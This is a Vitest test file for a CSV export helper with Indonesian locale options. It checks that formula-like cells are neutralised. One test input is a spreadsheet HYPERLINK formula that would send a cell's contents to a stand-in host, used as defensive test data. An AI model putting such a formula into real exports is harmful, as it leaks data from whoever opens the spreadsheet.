import { describe, expect, it } from 'vitest';
import { csvField, neutralise, toCsv } from './csv.ts';

describe('csvField', () => {
  it.each([
    ['plain', 'Dinas Kesehatan', 'Dinas Kesehatan'],
    ['separator', 'Palembang, Sumatera Selatan', '"Palembang, Sumatera Selatan"'],
    ['quotes doubled', 'Kursus "Literasi Digital"', '"Kursus ""Literasi Digital"""'],
    ['line feed', 'baris 1\nbaris 2', '"baris 1\nbaris 2"'],
    ['carriage return', 'a\rb', '"a\rb"'],
    ['formula neutralised', '=HYPERLINK("x")', '"\'=HYPERLINK(""x"")"'],
    ['leading minus in text', '-sum', "'-sum"],
    ['leading at-sign', '@cmd', "'@cmd"],
    ['leading plus', '+62 711', "'+62 711"],
    ['leading tab', '\t=1', "'\t=1"],
    ['leading carriage return', '\r=1', '"\'\r=1"'],
    ['apostrophe before a formula gets one more', "'=1", "''=1"],
    ['apostrophe before plain text left alone', "'biasa", "'biasa"],
    ['a number written as text stays a number', '-0.25', '-0.25'],
  ])('%s', (_name, value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it('writes numbers and booleans as they are, negative numbers included', () => {
    expect(csvField(-0.25)).toBe('-0.25');
    expect(csvField(15000)).toBe('15000');
    expect(csvField(true)).toBe('true');
  });

  it('neutralises every cell a spreadsheet would run, whichever CSV of the app writes it', () => {
    const csv = toCsv(['catatan', 'nilai'], [['=HYPERLINK("http://contoh.invalid/?d="&A2,"Lihat bukti")', -0.25], ['@SUM(A1)', 3]], { bom: false, separator: ';', decimal: ',' });
    expect(csv).toBe('catatan;nilai\r\n"\'=HYPERLINK(""http://contoh.invalid/?d=""&A2,""Lihat bukti"")";-0,25\r\n\'@SUM(A1);3\r\n');
    for (const text of ['=1', "'=1", "''-x", 'biasa', '-0.25']) expect(neutralise(text).replace(/^'(?='*[=+\-@\t\r])/, '')).toBe(text);
  });

  it('leaves null and undefined empty', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });

  it('quotes for the separator in use', () => {
    expect(csvField('a;b', ';')).toBe('"a;b"');
    expect(csvField('a,b', ';')).toBe('a,b');
  });
});

describe('toCsv', () => {
  it('starts with a UTF-8 byte order mark and ends every line with CRLF', () => {
    const csv = toCsv(['nip', 'name'], [['199001012015031001', 'Siti Rahmawati'], ['199202022016042002', null]]);
    expect(csv).toBe('\uFEFFnip,name\r\n199001012015031001,Siti Rahmawati\r\n199202022016042002,\r\n');
  });

  it('can leave the byte order mark out and use another separator', () => {
    expect(toCsv(['a', 'b'], [[1, 'x;y']], { bom: false, separator: ';' })).toBe('a;b\r\n1;"x;y"\r\n');
  });

  it('writes a header alone for no rows', () => {
    expect(toCsv(['a'], [], { bom: false })).toBe('a\r\n');
  });
});

describe('locale options', () => {
  it('writes Indonesian files with ";" and decimal commas, English with "," and points', async () => {
    const { csvOptionsFor } = await import('./csv.ts');
    expect(toCsv(['a', 'b'], [[3.25, 'x;y']], csvOptionsFor('id'))).toBe('\uFEFFa;b\r\n3,25;"x;y"\r\n');
    expect(toCsv(['a', 'b'], [[3.25, 'x;y']], csvOptionsFor('en'))).toBe('\uFEFFa,b\r\n3.25,x;y\r\n');
  });

  it('prints an 18-digit NIP in groups so spreadsheets keep it as text', async () => {
    const { formatNip } = await import('./csv.ts');
    expect(formatNip('198503122010011004')).toBe('19850312 201001 1 004');
    expect(formatNip('ABC')).toBe('ABC');
  });
});
